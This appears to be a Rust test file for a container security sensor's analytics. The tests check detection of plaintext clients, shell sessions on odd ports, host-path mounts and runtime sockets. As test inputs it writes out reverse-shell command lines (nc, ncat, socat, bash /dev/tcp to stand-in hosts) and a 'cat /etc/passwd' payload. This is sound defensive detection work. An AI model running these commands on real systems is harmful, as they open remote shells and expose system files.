//! Facts that analytics add, as tables of events.

use super::*;
use compact_str::CompactString;
use event::container::{Container, ContainerChange, Mount};
use event::network::{Connection, ConnectionOp, Direction, Endpoints, Payload, Transport, UnixConnection};
use event::process::{Argv, Exec, Fd, FdType};
use event::{BootTime, ContainerId, FactValue, Kind, Owner, Sensor, Text};
use std::sync::Arc;
use std::time::Duration;

fn analytics() -> Analytics {
    Analytics::new(Parameters::default(), &BTreeMap::new())
}

fn of_container(kind: Kind) -> Event {
    let mut event = Event::new(Sensor::Kernel, BootTime(1), kind);
    event.owner = Owner::Container(ContainerId([7; 32]));
    event
}

/// The fact as text, `-` where there is none.
pub(super) fn fact(event: &Event, name: FactName) -> String {
    match event.facts.find(name).map(|fact| &fact.value) {
        None => "-".to_owned(),
        Some(FactValue::Flag(flag)) => flag.to_string(),
        Some(FactValue::Number(number)) => number.to_string(),
        Some(FactValue::Real(real)) => real.to_string(),
        Some(FactValue::Text(text)) => text.to_string(),
    }
}

fn exec(path: &str, line: &str) -> Event {
    let argv = Argv { args: line.split_whitespace().map(CompactString::from).collect(), ..Argv::default() };
    of_container(Kind::Exec(Arc::new(Exec { path: Text::resolved(path), argv, ..Exec::default() })))
}

#[test]
fn clients_of_plain_text_are_known_by_program_and_command_line() {
    for (path, line, protocol, destination, unregistered) in [
        ("/bin/busybox", "telnet c2.example.com 4444", "telnet", "c2.example.com:4444", "true"),
        ("/bin/busybox", "busybox telnet -l me 10.0.0.1", "telnet", "10.0.0.1:23", "-"),
        ("/usr/bin/telnet", "telnet -E fd00::1 25", "telnet", "[fd00::1]:25", "-"),
        ("/usr/bin/telnet", "x", "telnet", "-", "-"),
        ("/tmp/x", "telnet h 1", "telnet", "h:1", "true"),
        ("/bin/nc.openbsd", "nc -nvw 3 1.2.3.4 4444", "plaintext", "1.2.3.4:4444", "true"),
        ("/bin/nc.openbsd", "nc -w3 1.2.3.4 80", "plaintext", "1.2.3.4:80", "-"),
        ("/usr/bin/ncat", "ncat --exec /bin/sh 1.2.3.4 9001", "plaintext", "1.2.3.4:9001", "true"),
        ("/bin/busybox", "nc 1.2.3.4 9001 -e /bin/sh", "plaintext", "1.2.3.4:9001", "true"),
        ("/usr/bin/nc", "nc -lvp 4444", "plaintext", "-", "-"),
        ("/usr/bin/nc", "nc -z host 20-25", "plaintext", "host:20", "-"),
        ("/usr/bin/socat", "socat EXEC:/bin/sh TCP:c2:4444,reuseaddr", "plaintext", "c2:4444", "true"),
        ("/usr/bin/socat", "socat - TCP6:[fd00::1]:4444", "plaintext", "[fd00::1]:4444", "true"),
        ("/usr/bin/socat", "socat - OPENSSL:c2:4444", "plaintext", "-", "-"),
        ("/bin/bash", "bash -c bash<>/dev/tcp/10.0.0.1/4444", "plaintext", "10.0.0.1:4444", "true"),
        ("/bin/cat", "cat /dev/tcp/10.0.0.1/4444", "-", "-", "-"),
        ("/bin/busybox", "busybox wget http://x", "-", "-", "-"),
        ("/bin/busybox", "busybox", "-", "-", "-"),
        ("/bin/ls", "", "-", "-", "-"),
    ] {
        let mut event = exec(path, line);
        analytics().observe(&mut event, &mut Made::new());
        let found = [FactName::PlaintextClient, FactName::IntendedDestination, FactName::UnregisteredPort];
        assert_eq!(
            found.map(|name| fact(&event, name)),
            [protocol, destination, unregistered],
            "{path}: {line}"
        );
    }
}

#[test]
fn sockets_on_standard_descriptors_are_told() {
    use FdType::{Inet, None, Null, Pipe, Unix};
    for (path, types, expect) in [
        ("/bin/sh", [Inet, Inet, Inet], "0,1,2"),
        ("/bin/cat", [Inet, Pipe, None], "0"),
        ("/bin/sh", [Unix, Unix, Null], "0,1"),
        ("/usr/bin/service", [Unix, Unix, Unix], "-"),
        ("/bin/sh", [Pipe, Pipe, Pipe], "-"),
    ] {
        let stdio = types.map(|fd_type| Fd { fd_type, inode: 5 });
        let mut event =
            of_container(Kind::Exec(Arc::new(Exec { path: Text::resolved(path), stdio, ..Exec::default() })));
        analytics().observe(&mut event, &mut Made::new());
        assert_eq!(fact(&event, FactName::SocketStdio), expect, "{path}: {types:?}");
    }
}

fn ends(remote: &str, port: u16) -> Endpoints {
    let remote_ip = remote.parse().unwrap();
    Endpoints {
        transport: Transport::Tcp,
        local_port: 50_000,
        remote_ip,
        remote_port: port,
        ..Endpoints::default()
    }
}

#[test]
fn a_connection_to_a_port_without_a_protocol_is_told() {
    for (remote, port, expect) in [
        ("10.0.0.1", 4444, "true"),
        ("10.0.0.1", 443, "-"),
        ("127.0.0.1", 4444, "-"),
        ("::1", 4444, "-"),
        ("224.0.0.1", 4444, "-"),
        ("10.0.0.1", 0, "-"),
    ] {
        let connection = Connection { ends: ends(remote, port), cookie: 1, ..Connection::default() };
        let mut event = of_container(Kind::Connection(Box::new(connection)));
        analytics().observe(&mut event, &mut Made::new());
        assert_eq!(fact(&event, FactName::UnregisteredPort), expect, "{remote}:{port}");
    }
}

fn payload(port: u16, direction: Direction, bytes: &[u8]) -> Event {
    let payload = Payload {
        ends: ends("10.0.0.1", port),
        cookie: 9,
        direction,
        bytes: bytes.into(),
        ..Payload::default()
    };
    of_container(Kind::Payload(Box::new(payload)))
}

#[test]
fn a_flow_says_what_it_speaks_and_whether_its_port_promised_it() {
    let mut analytics = analytics();
    let mut banner = payload(443, Direction::In, b"SSH-2.0-OpenSSH_9.2\r\n");
    analytics.observe(&mut banner, &mut Made::new());
    assert_eq!(fact(&banner, FactName::Protocol), "ssh");
    assert_eq!(fact(&banner, FactName::ProtocolMismatch), "tls");
    assert_eq!(fact(&banner, FactName::UnregisteredPort), "-");
}

#[test]
fn shell_text_in_a_plain_session_is_told_with_its_flow() {
    let mut analytics = analytics();
    let mut prompt = payload(4444, Direction::Out, b"/ # ");
    let mut command = payload(4444, Direction::In, b"cat /etc/passwd\n");
    analytics.observe(&mut prompt, &mut Made::new());
    analytics.observe(&mut command, &mut Made::new());
    assert_eq!(fact(&command, FactName::CommandText), "cat /etc/passwd");
    assert_eq!(fact(&command, FactName::UnregisteredPort), "true");
}

#[test]
fn flows_are_bounded_and_what_gives_way_is_counted() {
    let mut flows: Lru<u64> = Lru::new(2, Duration::from_nanos(10));
    for key in 0..3 {
        flows.touch(key, BootTime(key), || key);
    }
    assert_eq!(flows.take_evicted(), 1);
    flows.forget(BootTime(100));
    assert_eq!(flows.touch(1, BootTime(100), || 77).copied(), Some(77), "it was forgotten by time");
    assert_eq!(flows.take_evicted(), 0);
}

fn described(mut event: Event) -> Event {
    analytics().complete(&mut event);
    event
}

#[test]
fn a_path_through_a_mount_to_the_hosts_system_is_told() {
    for (host_path, path, directory) in [
        ("/etc/cron.d/x", "/etc/cron.d/x", "/etc"),
        ("/srv/../etc/shadow", "/etc/shadow", "/etc"),
        ("/etcetera/x", "/etcetera/x", "-"),
        ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/core_pattern", "/proc/sys"),
        ("/home/me", "/home/me", "-"),
    ] {
        let mut event = of_container(Kind::Tick);
        event.context.host_path = Some(host_path.into());
        let event = described(event);
        let found = [FactName::HostPath, FactName::HostSystemFile].map(|name| fact(&event, name));
        assert_eq!(found, [path, directory], "{host_path}");
    }
}

#[test]
fn a_runtimes_socket_is_told_by_mount_and_by_connection() {
    let mounted = |source: &str| {
        let mut event = of_container(Kind::Tick);
        let mount = Mount { source: source.into(), ..Mount::default() };
        event.context.container = Some(Arc::new(Container { mounts: vec![mount], ..Container::default() }));
        fact(&described(event), FactName::RuntimeSocket)
    };
    assert_eq!(mounted("/var/run/docker.sock"), "/run/docker.sock");
    assert_eq!(mounted("/run/containerd"), "/run/containerd/containerd.sock");
    assert_eq!(mounted("/"), "/run/docker.sock");
    assert_eq!(mounted("/srv/data"), "-");
    let connection =
        UnixConnection { path: Text::resolved("/hostrun/docker.sock"), ..UnixConnection::default() };
    let event = of_container(Kind::Unix(Box::new(connection)));
    assert_eq!(fact(&described(event), FactName::RuntimeSocket), "/run/docker.sock");
}

#[test]
fn a_web_service_is_told_by_published_and_by_listening_ports() {
    let published = |port: &str| {
        let record =
            Container { id: Some(ContainerId([7; 32])), ports: vec![port.into()], ..Container::default() };
        let change = ContainerChange { record, ..ContainerChange::default() };
        fact(&described(of_container(Kind::Container(Box::new(change)))), FactName::WebService)
    };
    for (port, expect) in [
        ("0.0.0.0:8080->80/tcp", "80"),
        ("0.0.0.0:8080->7777/tcp", "8080"),
        ("[::]:8443->1/tcp", "8443"),
        ("80/tcp", "80"),
        ("0.0.0.0:53->53/udp", "-"),
        ("garbage", "-"),
    ] {
        assert_eq!(published(port), expect, "{port}");
    }
    let ends = Endpoints { local_port: 8000, ..Endpoints::default() };
    let listen = Connection { op: ConnectionOp::Listen, ends, ..Connection::default() };
    let event = described(of_container(Kind::Connection(Box::new(listen))));
    assert_eq!(fact(&event, FactName::WebService), "8000");
}

#[test]
fn every_container_is_without_history_and_the_host_is_not() {
    assert_eq!(fact(&described(of_container(Kind::Tick)), FactName::NoHistory), "true");
    let host = Event::new(Sensor::Kernel, BootTime(1), Kind::Tick);
    assert_eq!(fact(&described(host), FactName::NoHistory), "-");
}
